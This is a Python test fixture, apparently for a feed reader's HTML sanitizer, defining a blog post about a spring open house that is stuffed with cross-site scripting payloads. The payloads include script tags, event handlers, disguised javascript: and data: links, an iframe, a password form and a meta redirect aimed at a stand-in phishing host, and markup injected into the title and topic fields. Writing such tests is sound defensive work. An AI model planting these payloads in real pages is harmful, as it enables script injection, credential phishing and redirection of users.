"""A post with what a feed reader must never let through to a page."""

from __future__ import annotations

from sandbox.blogs.texts import Text

CONTENT = """<p>An ordinary opening about our <b>spring open house</b>, so that the
post is worth reading at all.</p>

<script>document.title = "hostile"; window.hostile = 1</script>

<p onclick="window.hostile = 2" style="position:fixed;inset:0;z-index:9999">A paragraph
that wants to cover the whole page.</p>

<p><a href="javascript:window.hostile=3">A link that is a program</a>,
<a href=" JaVaScRiPt&#58;window.hostile=4">the same in disguise</a>, and
<a href="data:text/html,&lt;script&gt;window.hostile=5&lt;/script&gt;">a page in a
link</a>.</p>

<p><img src="x" onerror="window.hostile=6" alt="a picture that is none">
<svg onload="window.hostile=7"><script>window.hostile=8</script></svg>
<iframe src="javascript:window.hostile=9"></iframe></p>

<form action="https://phish.invalid/"><input name="password"><button>Sign in
again</button></form>

<style>body { display: none }</style>
<meta http-equiv="refresh" content="0;url=https://phish.invalid/">
<object data="https://phish.invalid/x.swf"></object><base href="https://phish.invalid/">

<h2>And a plain ending</h2>

<p>Doors open at ten. ]]> Bring a friend &amp; a neighbor.</p>"""

HOSTILE = Text(
    name="hostile",
    title='Open house <img src=x onerror="window.hostile=10"> & a "quoted" <title>',
    by="",
    topics=("Events", '<script>alert("topic")</script>'),
    content=CONTENT,
    links_home=False,
)
